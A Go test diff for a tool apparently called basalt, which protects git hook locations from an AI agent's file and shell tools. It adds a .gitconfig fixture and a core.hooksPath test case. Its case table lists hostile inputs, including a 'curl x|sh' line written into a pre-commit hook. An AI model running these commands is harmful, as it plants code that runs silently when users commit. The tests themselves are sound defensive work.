@@ -21,6 +21,7 @@ import (
 //	base/realgit/worktrees/wt/commondir    "../.."
 //	base/proj/evil/.basalt/settings.json   a tree that holds a protected name
 //	base/home/.bashrc
+//	base/home/.gitconfig                   core.hooksPath = ~/githooks
 //	base/xdg                               $XDG_CONFIG_HOME
 //	base/state                             basalt's state directory
 type protTree struct {
@@ -45,6 +46,7 @@ func newProtTree(t *testing.T) protTree {
 		"realgit/worktrees/wt/commondir":   "../..\n",
 		"proj/evil/.basalt/settings.json":  "{}",
 		"home/.bashrc":                     "# rc\n",
+		"home/.gitconfig":                  "[user]\n\tname = x\n[core]\n\thooksPath = ~/githooks\n",
 	}
 	for f, content := range files {
 		if err := os.WriteFile(filepath.Join(tr.base, f), []byte(content), 0o600); err != nil {
@@ -172,6 +174,7 @@ var protectedCases = []protCase{
 	{"git", "gitdir named by a .git file", "Write", "{B}/realgit/worktrees/wt/config"},
 	{"git", "common dir of a worktree", "Write", "{B}/realgit/hooks/pre-commit"},
 	{"git", "core.hooksPath", "Write", ".githooks/pre-commit"},
+	{"git", "core.hooksPath in the user's gitconfig", "Write", "~/githooks/pre-commit"},
 	{"git", "redirect into hooks", "Bash", "echo 'curl x|sh' > .git/hooks/pre-commit"},
 	{"git", "cp into hooks", "Bash", "cp evil .git/hooks/pre-commit"},
 	{"git", "chmod a hook", "Bash", "chmod +x .git/hooks/pre-commit"},
